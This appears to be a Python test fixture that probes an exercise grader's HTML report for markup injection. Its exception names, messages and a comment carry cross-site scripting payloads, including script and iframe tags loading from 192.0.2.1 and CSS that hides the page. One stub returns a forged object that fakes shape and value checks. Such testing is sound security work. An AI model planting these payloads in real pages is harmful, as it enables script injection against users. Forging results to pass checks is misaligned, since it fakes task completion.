# tries: bring markup into messages by the text, type and place of exceptions, which the report shows

# %%
# exercise: gaussian_kl
Odd = type('<script>alert("left-by-attack")</script>', (Exception,), {})


def gaussian_kl(mu, sigma):
    raise Odd("</p></li><img src=x onerror=alert(1) id=left-by-attack>" * 5)


# %%
# exercise: reparameterize
def reparameterize(mu, sigma, eps):
    raise AssertionError("<style>*{display:none}</style><b class=left-by-attack>pass</b><script src=//192.0.2.1></script>")


# %%
# exercise: pathwise_gradient
def pathwise_gradient(theta, eps):
    return type("<iframe src=//192.0.2.1>", (), {"shape": (2,), "__getitem__": lambda self, key: 6.0})()


# %%
# exercise: score_function_gradient
def score_function_gradient(theta, eps):
    if len(eps) > 2: raise Odd("x")  # <script>alert("left-by-attack")</script>
    return 0 * eps


print("reached")
